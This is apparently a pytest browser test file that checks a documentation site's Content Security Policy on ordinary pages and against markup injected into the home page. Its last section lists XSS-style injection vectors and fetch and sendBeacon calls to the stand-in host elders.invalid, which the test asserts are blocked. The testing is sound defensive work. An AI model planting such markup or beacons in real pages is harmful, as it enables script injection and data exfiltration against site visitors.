"""The content policy is real, and in nobody's way: over a server and from a disk, on every kind of page."""

import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from tests.browser.conftest import served
from tests.browser.pages import DEMONSTRATION, SMALL, Reader, Shown, showing

FROM_DISK = [
    (site, path)
    for site, pages in (("demonstration", DEMONSTRATION), ("built_school", SMALL))
    for name, path in pages.items()
    if name != "no such page"  # which only a server shows
]


@pytest.fixture(params=["server", "disk"])
def base(request: pytest.FixtureRequest, demonstration: Path) -> str:
    """Where the demonstration is opened: behind a web server, or in its folder."""
    address: str = request.getfixturevalue("demonstration_site")
    return address if request.param == "server" else (demonstration / "site").as_uri()


def refusals(shown: Shown) -> list[str]:
    """What was refused or complained about."""
    return shown.refused() + shown.complaints


@pytest.mark.parametrize(("site", "path"), FROM_DISK, ids=[path for _, path in FROM_DISK])
def test_a_page_that_is_opened_from_a_disk_needs_nothing_that_is_refused(
    request: pytest.FixtureRequest, reader: Reader, site: str, path: str
) -> None:
    """Those behind a server are opened in test_every_page.py."""
    folder = request.getfixturevalue(site) / "site"
    with showing(reader, folder.as_uri(), path) as shown:
        assert shown.page.locator("h1").is_visible()
        assert [url for url in shown.requests if not url.startswith(f"{shown.base}/")] == []
        assert refusals(shown) == []


def test_charts_that_come_alive_and_their_tooltips_are_in_its_bounds(reader: Reader, base: str) -> None:
    with showing(reader, base, DEMONSTRATION["layer with blocks"]) as shown:
        for button in shown.page.locator("button.ts-interactive").all():
            button.click()
        shown.page.locator(".ts-live [role=img]").first.hover(force=True)
        tooltip = shown.page.locator("#vg-tooltip-element.visible")
        tooltip.wait_for()
        # It has a look, although Vega may not bring its own.
        assert shown.ask("getComputedStyle(document.querySelector('#vg-tooltip-element')).position") == "fixed"
        assert refusals(shown) == []


def test_search_is_in_its_bounds(reader: Reader, base: str) -> None:
    with showing(reader, base, DEMONSTRATION["team"]) as shown:
        shown.page.locator("label.md-header__button[for='__search']").or_(
            shown.page.locator(".md-search__input")
        ).locator("visible=true").first.click()
        shown.page.keyboard.insert_text("lemniscaat")
        shown.page.keyboard.press("End")
        shown.page.locator(".md-search-result__item").first.wait_for()
        assert refusals(shown) == []


def test_the_switch_the_terms_the_tables_and_paper_are_in_its_bounds(reader: Reader, base: str) -> None:
    with showing(reader, base, DEMONSTRATION["matrix"]) as shown:
        shown.wear("dark")
        assert shown.ask("document.body.dataset.mdColorScheme") == "slate"
        shown.page.locator("table.ts-matrix thead th").first.click()
        shown.page.get_by_label("Zoek", exact=True).press_sequentially("gesprek")
        shown.page.emulate_media(media="print")
        shown.page.emulate_media(media="null")
        assert refusals(shown) == []
    with showing(reader, base, "hulp/index.html") as shown:
        shown.page.locator("article p abbr").first.hover()
        shown.page.locator(".md-tooltip2--active").wait_for()
        assert refusals(shown) == []


# ----- what somebody would put into a page ----------------------------------------------------------------

SMUGGLED = """
<script>window.pwned = "script"</script>
<script src="https://elders.invalid/x.js"></script>
<script src="data:text/javascript,window.pwned='data'"></script>
<img src="x" onerror="window.pwned = 'onerror'">
<img src="https://elders.invalid/pixel.png">
<svg onload="window.pwned = 'onload'"></svg>
<a id="link" href="javascript:window.pwned = 'href'">x</a>
<iframe srcdoc="<script>parent.pwned = 'srcdoc'</script>"></iframe>
<iframe src="https://elders.invalid/"></iframe>
<object data="https://elders.invalid/x.swf"></object>
<form id="form" action="https://elders.invalid/"><input name="a" value="b"></form>
<base href="https://elders.invalid/">
<style>body { background: url(https://elders.invalid/style.png) }</style>
<p id="dressed" style="color: rgb(1, 2, 3)">x</p>
"""

TRIED = """
() => {
  document.querySelector("#link").click();
  document.querySelector("#form").submit();
  setTimeout("window.pwned = 'text'");
  fetch("https://elders.invalid/").catch(() => {});
  navigator.sendBeacon("https://elders.invalid/", "a");
}
"""

FORBIDDEN = {
    "script-src-elem",
    "script-src-attr",
    "script-src",
    "img-src",
    "style-src-elem",
    "style-src-attr",
    "frame-src",
    "object-src",
    "form-action",
    "base-uri",
    "connect-src",
}


@contextmanager
def smuggled_into(site: Path, folder: Path, disk: bool) -> Iterator[str]:
    """Where a copy of a site is opened into whose home page somebody has put all this after it was built."""
    shutil.copytree(site, folder)
    home = folder / "index.html"
    page = home.read_text(encoding="utf-8")
    assert page.count("</article>") == 1
    home.write_text(page.replace("</article>", f"{SMUGGLED}</article>"), encoding="utf-8")
    yield from [folder.as_uri()] if disk else served(folder)


@pytest.mark.parametrize("disk", [False, True], ids=["server", "disk"])
def test_what_is_smuggled_into_a_page_does_not_run_load_or_send(
    reader: Reader, built_school: Path, tmp_path: Path, disk: bool
) -> None:
    with (
        smuggled_into(built_school / "site", tmp_path / "site", disk) as base,
        showing(reader, base, "index.html") as shown,
    ):
        shown.ask(TRIED)
        shown.page.wait_for_timeout(500)
        assert shown.ask("window.pwned") is None
        assert shown.ask("getComputedStyle(document.querySelector('#dressed')).color") != "rgb(1, 2, 3)"
        assert {refused.split()[0] for refused in shown.refused()} == FORBIDDEN
        # The browser tells of a request that it then does not make, because of the policy.
        assert [url for url in shown.requests if "elders" in url and f"{url}: csp" not in shown.complaints] == []
